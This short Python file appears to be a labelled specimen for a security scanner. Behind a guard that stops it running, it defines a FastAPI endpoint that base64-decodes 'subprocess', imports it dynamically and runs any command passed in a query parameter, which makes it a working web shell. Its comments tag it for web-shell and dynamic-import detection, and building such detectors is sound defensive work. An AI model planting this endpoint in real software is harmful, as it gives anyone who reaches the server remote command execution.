raise SystemExit("specimen: not to be run")
import base64
import importlib
from fastapi import FastAPI

app = FastAPI()

@app.get("/x")
def run(c: str):
    return importlib.import_module(base64.b64decode("c3VicHJvY2Vzcw==").decode()).getoutput(c)  # match: web-shell  # match: dynamic-import
